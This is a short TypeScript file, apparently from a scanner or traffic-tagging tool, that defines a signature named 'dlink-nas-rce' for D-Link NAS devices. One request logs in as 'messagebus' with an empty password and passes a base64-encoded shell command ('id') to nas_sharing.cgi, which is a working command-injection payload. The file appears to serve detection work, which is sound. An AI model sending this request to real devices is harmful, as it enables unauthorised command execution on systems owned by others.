import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'dlink-nas-rce',
    get('/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ='),
    get('/cgi-bin/nas_sharing.cgi?user=admin'),
  ),
]
